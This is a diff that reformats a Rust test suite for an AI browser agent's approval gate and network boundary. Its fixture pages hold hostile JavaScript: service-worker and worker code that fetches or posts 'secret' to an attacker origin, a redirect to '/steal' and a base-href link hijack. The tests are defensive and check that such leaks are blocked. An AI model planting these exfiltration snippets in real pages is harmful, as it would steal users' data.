@@ -14,27 +14,70 @@ use crate::{click, env, env_with};
 
 /// Serves `body` as JavaScript at `path`.
 fn script(server: &FixtureServer, path: &str, body: String) {
-    server.route(path, test_support::Route::Content { content_type: "text/javascript".into(), body: body.into_bytes() });
+    server.route(
+        path,
+        test_support::Route::Content {
+            content_type: "text/javascript".into(),
+            body: body.into_bytes(),
+        },
+    );
 }
 
 /// What reached the attacker (method and path) once the action's window and its tail are over.
 async fn reached_after_the_window(attacker: &FixtureServer) -> Vec<String> {
     tokio::time::sleep(browser::GUARD_TAIL + Duration::from_millis(500)).await;
-    attacker.requests().iter().map(|r| format!("{} {}", r.method, r.path)).collect()
+    attacker
+        .requests()
+        .iter()
+        .map(|r| format!("{} {}", r.method, r.path))
+        .collect()
 }
 
 /// The action on `name` of a fresh observation: refused for a person's approval, the pending
 /// approval it made.
 async fn asks(env: &crate::Env, name: &str) -> runtime::ApprovalRequest {
-    let o = env.runtime.observe(&env.session, None, &Default::default()).await.unwrap();
+    let o = env
+        .runtime
+        .observe(&env.session, None, &Default::default())
+        .await
+        .unwrap();
     let action = click(&o, name);
-    match env.runtime.act(&env.session, None, &action, &Default::default(), Duration::ZERO).await {
+    match env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &action,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+    {
         Err(RuntimeError::NeedsApproval { approval_id, .. }) => {
-            let request = env.runtime.pending_approvals().into_iter().find(|r| r.approval_id == approval_id).expect("pending");
+            let request = env
+                .runtime
+                .pending_approvals()
+                .into_iter()
+                .find(|r| r.approval_id == approval_id)
+                .expect("pending");
             // The person declines; the identical action is refused and sends nothing.
-            env.runtime.resolve_approval(&approval_id, ApprovalDecision::Deny).unwrap();
-            let again = env.runtime.act(&env.session, None, &action, &Default::default(), Duration::ZERO).await;
-            assert!(matches!(&again, Err(e) if e.code() == ErrorCode::ApprovalDenied), "{name}: {again:?}");
+            env.runtime
+                .resolve_approval(&approval_id, ApprovalDecision::Deny)
+                .unwrap();
+            let again = env
+                .runtime
+                .act(
+                    &env.session,
+                    None,
+                    &action,
+                    &Default::default(),
+                    Duration::ZERO,
+                )
+                .await;
+            assert!(
+                matches!(&again, Err(e) if e.code() == ErrorCode::ApprovalDenied),
+                "{name}: {again:?}"
+            );
             request
         }
         other => panic!("{name}: expected a person's approval, got {other:?}"),
@@ -46,7 +89,10 @@ async fn writes_are_judged_by_the_origin_they_reach_and_declined_ones_send_nothi
     let env = env("hostile-reach", true).await;
     let attacker = FixtureServer::start().await.unwrap();
     let evil = attacker.origin();
-    attacker.html("/frame.html", "<!doctype html><button onclick=\"fetch('/vote', {method: 'POST'})\">Vote</button>");
+    attacker.html(
+        "/frame.html",
+        "<!doctype html><button onclick=\"fetch('/vote', {method: 'POST'})\">Vote</button>",
+    );
     env.server.html(
         "/hostile.html",
         format!(
@@ -57,8 +103,13 @@ async fn writes_are_judged_by_the_origin_they_reach_and_declined_ones_send_nothi
 <iframe src="{evil}/frame.html" title=poll></iframe>"#
         ),
     );
-    env.server.html("/based.html", format!(r#"<!doctype html><base href="{evil}/"><a href="collect?d=1">Read more</a>"#));
-    crate::open(&env.runtime, &env.session, &env.server.url("/hostile.html")).await.unwrap();
+    env.server.html(
+        "/based.html",
+        format!(r#"<!doctype html><base href="{evil}/"><a href="collect?d=1">Read more</a>"#),
+    );
+    crate::open(&env.runtime, &env.session, &env.server.url("/hostile.html"))
+        .await
+        .unwrap();
     crate::observe_until(&env.runtime, &env.session, "Vote").await;
 
     // An off-origin form action: the post would land on the attacker's origin.
@@ -76,14 +127,28 @@ async fn writes_are_judged_by_the_origin_they_reach_and_declined_ones_send_nothi
     assert_eq!(vote.origin, evil, "{vote:?}");
 
     // `<base href>` points every relative link elsewhere: the outline and the approval say where.
-    crate::open(&env.runtime, &env.session, &env.server.url("/based.html")).await.unwrap();
+    crate::open(&env.runtime, &env.session, &env.server.url("/based.html"))
+        .await
+        .unwrap();
     let o = crate::observe_until(&env.runtime, &env.session, "Read more").await;
-    assert!(o.aria_snapshot().contains(&format!("-> {evil}/collect?d=")), "{}", o.aria_snapshot());
+    assert!(
+        o.aria_snapshot().contains(&format!("-> {evil}/collect?d=")),
+        "{}",
+        o.aria_snapshot()
+    );
     assert_eq!(asks(&env, "Read more").await.origin, evil);
 
     tokio::time::sleep(Duration::from_millis(300)).await;
-    let reached: Vec<String> = attacker.requests().iter().map(|r| format!("{} {}", r.method, r.path)).filter(|r| !r.ends_with("/frame.html")).collect();
-    assert!(reached.is_empty(), "nothing reached the attacker: {reached:?}");
+    let reached: Vec<String> = attacker
+        .requests()
+        .iter()
+        .map(|r| format!("{} {}", r.method, r.path))
+        .filter(|r| !r.ends_with("/frame.html"))
+        .collect();
+    assert!(
+        reached.is_empty(),
+        "nothing reached the attacker: {reached:?}"
+    );
 }
 
 /// High impact from structure, not words: a form that would send a filled password, a link that
@@ -98,34 +163,103 @@ async fn high_impact_is_known_from_structure_and_credential_origins_are_a_person
 <form method=post action="/orders"><button style="position:absolute;left:300px;top:300px;width:200px;height:40px">Refund all orders</button></form>"#;
     let env = env("hostile-structure", true).await;
     env.server.html("/admin.html", page);
-    crate::open(&env.runtime, &env.session, &env.server.url("/admin.html")).await.unwrap();
+    crate::open(&env.runtime, &env.session, &env.server.url("/admin.html"))
+        .await
+        .unwrap();
     let login = asks(&env, "Continue").await;
-    assert_eq!(login.tier, policy::RiskTier::R3, "submitting a filled password: {login:?}");
-    assert_eq!(asks(&env, "Export").await.tier, policy::RiskTier::R3, "a download link");
+    assert_eq!(
+        login.tier,
+        policy::RiskTier::R3,
+        "submitting a filled password: {login:?}"
+    );
+    assert_eq!(
+        asks(&env, "Export").await.tier,
+        policy::RiskTier::R3,
+        "a download link"
+    );
     // A password found by a locator is a secret field all the same.
-    let o = env.runtime.observe(&env.session, None, &Default::default()).await.unwrap();
+    let o = env
+        .runtime
+        .observe(&env.session, None, &Default::default())
+        .await
+        .unwrap();
     let by_label = protocol::validate_extended_action(&serde_json::json!({
         "type": "type", "expected_frame_id": o.frame_id().as_str(), "target": {"kind": "label", "text": "Password"}, "text": "guessed-pw-1", "intent": "sign in"
     }))
     .unwrap();
-    let err = env.runtime.act(&env.session, None, &by_label, &Default::default(), Duration::ZERO).await.unwrap_err();
-    let RuntimeError::NeedsApproval { approval_id, .. } = err else { panic!("{err:?}") };
-    let typed = env.runtime.pending_approvals().into_iter().find(|r| r.approval_id == approval_id).unwrap();
-    assert_eq!(typed.tier, policy::RiskTier::R3, "typing a password through a locator is a credential write: {typed:?}");
-    env.runtime.resolve_approval(&approval_id, ApprovalDecision::Deny).unwrap();
+    let err = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &by_label,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap_err();
+    let RuntimeError::NeedsApproval { approval_id, .. } = err else {
+        panic!("{err:?}")
+    };
+    let typed = env
+        .runtime
+        .pending_approvals()
+        .into_iter()
+        .find(|r| r.approval_id == approval_id)
+        .unwrap();
+    assert_eq!(
+        typed.tier,
+        policy::RiskTier::R3,
+        "typing a password through a locator is a credential write: {typed:?}"
+    );
+    env.runtime
+        .resolve_approval(&approval_id, ApprovalDecision::Deny)
+        .unwrap();
     // A point on the refund button (from a screenshot) is classified as that button.
-    let o =
-        env.runtime.observe(&env.session, None, &browser::ObserveOptions { screenshot: Some(protocol::ImageMime::Png), ..Default::default() }).await.unwrap();
+    let o = env
+        .runtime
+        .observe(
+            &env.session,
+            None,
+            &browser::ObserveOptions {
+                screenshot: Some(protocol::ImageMime::Png),
+                ..Default::default()
+            },
+        )
+        .await
+        .unwrap();
     let point = protocol::validate_extended_action(&serde_json::json!({
         "type": "click", "expected_frame_id": o.frame_id().as_str(), "target": {"kind": "point", "x": 400, "y": 320}, "intent": "refund"
     }))
     .unwrap();
-    let err = env.runtime.act(&env.session, None, &point, &Default::default(), Duration::ZERO).await.unwrap_err();
-    let RuntimeError::NeedsApproval { approval_id, .. } = err else { panic!("{err:?}") };
-    let request = env.runtime.pending_approvals().into_iter().find(|r| r.approval_id == approval_id).unwrap();
+    let err = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &point,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap_err();
+    let RuntimeError::NeedsApproval { approval_id, .. } = err else {
+        panic!("{err:?}")
+    };
+    let request = env
+        .runtime
+        .pending_approvals()
+        .into_iter()
+        .find(|r| r.approval_id == approval_id)
+        .unwrap();
     assert_eq!(request.tier, policy::RiskTier::R3, "{request:?}");
-    assert!(request.target.contains("Refund all orders"), "the approval names the element under the point: {request:?}");
-    env.runtime.resolve_approval(&approval_id, ApprovalDecision::Deny).unwrap();
+    assert!(
+        request.target.contains("Refund all orders"),
+        "the approval names the element under the point: {request:?}"
+    );
+    env.runtime
+        .resolve_approval(&approval_id, ApprovalDecision::Deny)
+        .unwrap();
     assert!(env.server.writes().is_empty(), "nothing was posted");
 
     // The person's own login form: credential fields of this trusted origin are ordinary.
@@ -135,18 +269,48 @@ async fn high_impact_is_known_from_structure_and_credential_origins_are_a_person
     })
     .await;
     mine.server.html("/admin.html", page);
-    crate::open(&mine.runtime, &mine.session, &mine.server.url("/admin.html")).await.unwrap();
-    let o = mine.runtime.observe(&mine.session, None, &Default::default()).await.unwrap();
+    crate::open(
+        &mine.runtime,
+        &mine.session,
+        &mine.server.url("/admin.html"),
+    )
+    .await
+    .unwrap();
+    let o = mine
+        .runtime
+        .observe(&mine.session, None, &Default::default())
+        .await
+        .unwrap();
     mine.runtime
-        .act(&mine.session, None, &click(&o, "Continue"), &Default::default(), Duration::ZERO)
+        .act(
+            &mine.session,
+            None,
+            &click(&o, "Continue"),
+            &Default::default(),
+            Duration::ZERO,
+        )
         .await
         .expect("no approval for the person's own login form");
     assert_eq!(mine.server.writes().len(), 1, "the login was posted");
-    crate::open(&mine.runtime, &mine.session, &mine.server.url("/admin.html")).await.unwrap();
+    crate::open(
+        &mine.runtime,
+        &mine.session,
+        &mine.server.url("/admin.html"),
+    )
+    .await
+    .unwrap();
     let o = crate::observe_until(&mine.runtime, &mine.session, "Export").await;
     assert!(
         matches!(
-            mine.runtime.act(&mine.session, None, &click(&o, "Export"), &Default::default(), Duration::ZERO).await,
+            mine.runtime
+                .act(
+                    &mine.session,
+                    None,
+                    &click(&o, "Export"),
+                    &Default::default(),
+                    Duration::ZERO
+                )
+                .await,
             Err(RuntimeError::NeedsApproval { .. })
         ),
         "a download still asks"
@@ -164,12 +328,26 @@ async fn requests_an_action_causes_reach_only_the_origins_it_was_judged_to_reach
     let env = env("hostile-network", true).await;
     let attacker = FixtureServer::start().await.unwrap();
     let evil = attacker.origin();
-    attacker.route("/pixel.png", test_support::Route::Content { content_type: "image/png".into(), body: vec![0x89, b'P', b'N', b'G'] });
-    env.server.route("/bounce", test_support::Route::Redirect { status: 307, location: format!("{evil}/steal") });
+    attacker.route(
+        "/pixel.png",
+        test_support::Route::Content {
+            content_type: "image/png".into(),
+            body: vec![0x89, b'P', b'N', b'G'],
+        },
+    );
+    env.server.route(
+        "/bounce",
+        test_support::Route::Redirect {
+            status: 307,
+            location: format!("{evil}/steal"),
+        },
+    );
     script(
         &env.server,
         "/sw.js",
-        format!("self.addEventListener('fetch', (e) => {{ if (e.request.url.includes('/api')) e.respondWith(fetch('{evil}/sw?d=secret')); }});"),
+        format!(
+            "self.addEventListener('fetch', (e) => {{ if (e.request.url.includes('/api')) e.respondWith(fetch('{evil}/sw?d=secret')); }});"
+        ),
     );
     env.server.html(
         "/leaky.html",
@@ -192,21 +370,50 @@ document.getElementById('go').onclick = () => {{
         ),
     );
     env.server.html("/api", "ok");
-    crate::open(&env.runtime, &env.session, &env.server.url("/leaky.html")).await.unwrap();
+    crate::open(&env.runtime, &env.session, &env.server.url("/leaky.html"))
+        .await
+        .unwrap();
     // Let the service worker install and take control of a reload.
     tokio::time::sleep(Duration::from_millis(500)).await;
-    crate::open(&env.runtime, &env.session, &env.server.url("/leaky.html")).await.unwrap();
+    crate::open(&env.runtime, &env.session, &env.server.url("/leaky.html"))
+        .await
+        .unwrap();
     let o = crate::observe_until(&env.runtime, &env.session, "Save").await;
-    let outcome = env.runtime.act(&env.session, None, &click(&o, "Save"), &Default::default(), Duration::ZERO).await.unwrap();
+    let outcome = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &click(&o, "Save"),
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap();
     let detail = outcome.receipt.detail().unwrap_or_default().to_owned();
-    assert!(detail.contains("network boundary blocked"), "the receipt says what was blocked: {detail:?}");
+    assert!(
+        detail.contains("network boundary blocked"),
+        "the receipt says what was blocked: {detail:?}"
+    );
     assert!(!detail.contains("secret"), "redacted: {detail}");
     // The late requests fall inside the tail of the action's window.
     let reached = reached_after_the_window(&attacker).await;
-    assert!(reached.iter().all(|r| r == "GET /pixel.png"), "only the page's static image reached the attacker's origin: {reached:?}");
-    assert!(reached.contains(&"GET /pixel.png".to_owned()), "static subresources still load: {reached:?}");
-    assert!(env.server.requests_to("/api").len() == 1, "the page's own request went to its own origin, around the service worker");
-    assert!(env.server.requests_to("/bounce").len() == 1, "the form post reached the page's origin, whose redirect was stopped");
+    assert!(
+        reached.iter().all(|r| r == "GET /pixel.png"),
+        "only the page's static image reached the attacker's origin: {reached:?}"
+    );
+    assert!(
+        reached.contains(&"GET /pixel.png".to_owned()),
+        "static subresources still load: {reached:?}"
+    );
+    assert!(
+        env.server.requests_to("/api").len() == 1,
+        "the page's own request went to its own origin, around the service worker"
+    );
+    assert!(
+        env.server.requests_to("/bounce").len() == 1,
+        "the form post reached the page's origin, whose redirect was stopped"
+    );
 }
 
 /// A cross-site iframe runs in its own process with its own debugger session: what a click in it
@@ -244,21 +451,59 @@ document.getElementById('send').onclick = () => {{
     env.server.html("/own", "ok");
     env.server
         .html("/host.html", format!(r#"<!doctype html><title>Host</title><p>Host page</p><iframe src="{frame_origin}/widget.html" title=widget></iframe>"#));
-    crate::open(&env.runtime, &env.session, &env.server.url("/host.html")).await.unwrap();
+    crate::open(&env.runtime, &env.session, &env.server.url("/host.html"))
+        .await
+        .unwrap();
     let o = crate::observe_until(&env.runtime, &env.session, "Send").await;
     // The frame's origin is not trusted: a person approves the click there (and only there).
     let send = click(&o, "Send");
-    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env.runtime.act(&env.session, None, &send, &Default::default(), Duration::ZERO).await else {
+    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &send,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+    else {
         panic!("a click on the frame's origin asks")
     };
-    env.runtime.resolve_approval(&approval_id, ApprovalDecision::ApproveOnce).unwrap();
-    let outcome = env.runtime.act(&env.session, None, &send, &Default::default(), Duration::ZERO).await.unwrap();
+    env.runtime
+        .resolve_approval(&approval_id, ApprovalDecision::ApproveOnce)
+        .unwrap();
+    let outcome = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &send,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap();
     let reached = reached_after_the_window(&attacker).await;
-    assert!(reached.is_empty(), "nothing the frame sent reached the attacker's origin: {reached:?}");
+    assert!(
+        reached.is_empty(),
+        "nothing the frame sent reached the attacker's origin: {reached:?}"
+    );
     let detail = outcome.receipt.detail().unwrap_or_default().to_owned();
-    assert!(detail.contains("network boundary blocked") && detail.contains("oopif-fetch"), "the receipt says what was blocked: {detail:?}");
-    assert_eq!(env.server.requests_to("/own").len(), 1, "the frame's own request reached its own origin");
-    assert_eq!(env.server.requests_to("/late.html").len(), 1, "the frame the click created loaded");
+    assert!(
+        detail.contains("network boundary blocked") && detail.contains("oopif-fetch"),
+        "the receipt says what was blocked: {detail:?}"
+    );
+    assert_eq!(
+        env.server.requests_to("/own").len(),
+        1,
+        "the frame's own request reached its own origin"
+    );
+    assert_eq!(
+        env.server.requests_to("/late.html").len(),
+        1,
+        "the frame the click created loaded"
+    );
 }
 
 /// A dedicated worker the click starts: its requests are its page's, judged with them.
@@ -270,7 +515,9 @@ async fn requests_of_a_worker_an_action_starts_are_judged() {
     script(
         &env.server,
         "/worker.js",
-        format!("fetch('{evil}/worker-fetch', {{method: 'POST', body: 'secret'}}).catch(() => {{}}); fetch('/own').then(() => postMessage('own ok'));"),
+        format!(
+            "fetch('{evil}/worker-fetch', {{method: 'POST', body: 'secret'}}).catch(() => {{}}); fetch('/own').then(() => postMessage('own ok'));"
+        ),
     );
     env.server.html("/own", "ok");
     env.server.html(
@@ -283,12 +530,30 @@ document.getElementById('go').onclick = () => {
 };
 </script>"#,
     );
-    crate::open(&env.runtime, &env.session, &env.server.url("/workers.html")).await.unwrap();
+    crate::open(&env.runtime, &env.session, &env.server.url("/workers.html"))
+        .await
+        .unwrap();
     let o = crate::observe_until(&env.runtime, &env.session, "Start").await;
-    env.runtime.act(&env.session, None, &click(&o, "Start"), &Default::default(), Duration::ZERO).await.unwrap();
+    env.runtime
+        .act(
+            &env.session,
+            None,
+            &click(&o, "Start"),
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap();
     let reached = reached_after_the_window(&attacker).await;
-    assert!(reached.is_empty(), "nothing the worker sent reached the attacker's origin: {reached:?}");
-    assert_eq!(env.server.requests_to("/own").len(), 1, "the worker's own request reached the page's origin");
+    assert!(
+        reached.is_empty(),
+        "nothing the worker sent reached the attacker's origin: {reached:?}"
+    );
+    assert_eq!(
+        env.server.requests_to("/own").len(),
+        1,
+        "the worker's own request reached the page's origin"
+    );
 }
 
 /// A service worker the page already has runs on its own: what an action asks it to send (a
@@ -315,19 +580,41 @@ navigator.serviceWorker.register('/relay-sw.js').then(() => navigator.serviceWor
 document.getElementById('go').onclick = () => navigator.serviceWorker.ready.then((r) => r.active.postMessage('go'));
 </script>"#,
     );
-    crate::open(&env.runtime, &env.session, &env.server.url("/relay.html")).await.unwrap();
+    crate::open(&env.runtime, &env.session, &env.server.url("/relay.html"))
+        .await
+        .unwrap();
     let o = crate::observe_until(&env.runtime, &env.session, "Relay").await;
     for _ in 0..100 {
-        let o = env.runtime.observe(&env.session, None, &Default::default()).await.unwrap();
+        let o = env
+            .runtime
+            .observe(&env.session, None, &Default::default())
+            .await
+            .unwrap();
         if o.aria_snapshot().contains("ready") {
             break;
         }
         tokio::time::sleep(Duration::from_millis(50)).await;
     }
-    env.runtime.act(&env.session, None, &click(&o, "Relay"), &Default::default(), Duration::ZERO).await.unwrap();
+    env.runtime
+        .act(
+            &env.session,
+            None,
+            &click(&o, "Relay"),
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .unwrap();
     let reached = reached_after_the_window(&attacker).await;
-    assert!(reached.is_empty(), "nothing the service worker sent reached the attacker's origin: {reached:?}");
-    assert_eq!(env.server.requests_to("/own").len(), 1, "the worker's own request reached the page's origin");
+    assert!(
+        reached.is_empty(),
+        "nothing the service worker sent reached the attacker's origin: {reached:?}"
+    );
+    assert_eq!(
+        env.server.requests_to("/own").len(),
+        1,
+        "the worker's own request reached the page's origin"
+    );
 }
 
 /// "Allow for this site" on a click that leads elsewhere grants the origin the person was shown —
@@ -335,8 +622,16 @@ document.getElementById('go').onclick = () => navigator.serviceWorker.ready.then
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn allowing_a_site_grants_exactly_the_origin_the_approval_named() {
     let env = env("hostile-grant", false).await;
-    let [shop, third]: [FixtureServer; 2] = FixtureServer::origins(2).await.unwrap().try_into().ok().unwrap();
-    shop.html("/landing.html", "<!doctype html><title>Shop</title><p>Welcome to the shop</p>");
+    let [shop, third]: [FixtureServer; 2] = FixtureServer::origins(2)
+        .await
+        .unwrap()
+        .try_into()
+        .ok()
+        .unwrap();
+    shop.html(
+        "/landing.html",
+        "<!doctype html><title>Shop</title><p>Welcome to the shop</p>",
+    );
     third.html("/x.html", "<!doctype html><p>third</p>");
     env.server.html(
         "/links.html",
@@ -346,35 +641,113 @@ async fn allowing_a_site_grants_exactly_the_origin_the_approval_named() {
             third.origin()
         ),
     );
-    crate::open(&env.runtime, &env.session, &env.server.url("/links.html")).await.unwrap();
+    crate::open(&env.runtime, &env.session, &env.server.url("/links.html"))
+        .await
+        .unwrap();
     // The page's own origin is not trusted here: approve it for the task first.
     let o = crate::observe_until(&env.runtime, &env.session, "Visit the shop").await;
     let visit = click(&o, "Visit the shop");
-    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env.runtime.act(&env.session, None, &visit, &Default::default(), Duration::ZERO).await else {
+    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &visit,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+    else {
         panic!("the click asks")
     };
-    let request = env.runtime.pending_approvals().into_iter().find(|r| r.approval_id == approval_id).unwrap();
-    assert_eq!(request.origin, shop.origin(), "the approval names the destination: {request:?}");
-    env.runtime.resolve_approval(&approval_id, ApprovalDecision::ApproveForTask).unwrap();
+    let request = env
+        .runtime
+        .pending_approvals()
+        .into_iter()
+        .find(|r| r.approval_id == approval_id)
+        .unwrap();
+    assert_eq!(
+        request.origin,
+        shop.origin(),
+        "the approval names the destination: {request:?}"
+    );
+    env.runtime
+        .resolve_approval(&approval_id, ApprovalDecision::ApproveForTask)
+        .unwrap();
     // The shop is granted now; the page's own origin (not trusted here) is the next decision,
     // asked on its own: the grant covered the shop only.
-    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env.runtime.act(&env.session, None, &visit, &Default::default(), Duration::ZERO).await else {
+    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &visit,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+    else {
         panic!("the page's own origin is asked next")
     };
-    let next = env.runtime.pending_approvals().into_iter().find(|r| r.approval_id == approval_id).unwrap();
+    let next = env
+        .runtime
+        .pending_approvals()
+        .into_iter()
+        .find(|r| r.approval_id == approval_id)
+        .unwrap();
     assert_eq!(next.origin, env.server.origin(), "{next:?}");
-    env.runtime.resolve_approval(&approval_id, ApprovalDecision::ApproveOnce).unwrap();
+    env.runtime
+        .resolve_approval(&approval_id, ApprovalDecision::ApproveOnce)
+        .unwrap();
     let elsewhere = click(&o, "Elsewhere");
-    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env.runtime.act(&env.session, None, &elsewhere, &Default::default(), Duration::ZERO).await
+    let Err(RuntimeError::NeedsApproval { approval_id, .. }) = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &elsewhere,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
     else {
         panic!("a third origin asks")
     };
-    let third_ask = env.runtime.pending_approvals().into_iter().find(|r| r.approval_id == approval_id).unwrap();
-    assert_eq!(third_ask.origin, third.origin(), "the shop's grant does not reach a third origin: {third_ask:?}");
-    env.runtime.resolve_approval(&approval_id, ApprovalDecision::Deny).unwrap();
+    let third_ask = env
+        .runtime
+        .pending_approvals()
+        .into_iter()
+        .find(|r| r.approval_id == approval_id)
+        .unwrap();
+    assert_eq!(
+        third_ask.origin,
+        third.origin(),
+        "the shop's grant does not reach a third origin: {third_ask:?}"
+    );
+    env.runtime
+        .resolve_approval(&approval_id, ApprovalDecision::Deny)
+        .unwrap();
     // Both decisions made, the first click goes to the shop.
-    let outcome = env.runtime.act(&env.session, None, &visit, &Default::default(), Duration::ZERO).await.expect("approved for both origins");
+    let outcome = env
+        .runtime
+        .act(
+            &env.session,
+            None,
+            &visit,
+            &Default::default(),
+            Duration::ZERO,
+        )
+        .await
+        .expect("approved for both origins");
     let landed = outcome.observation.expect("the shop's page");
-    assert!(landed.url().starts_with(&shop.origin()) && landed.aria_snapshot().contains("Welcome to the shop"), "{}", landed.url());
-    assert!(third.requests().is_empty(), "nothing reached the third origin");
+    assert!(
+        landed.url().starts_with(&shop.origin())
+            && landed.aria_snapshot().contains("Welcome to the shop"),
+        "{}",
+        landed.url()
+    );
+    assert!(
+        third.requests().is_empty(),
+        "nothing reached the third origin"
+    );
 }
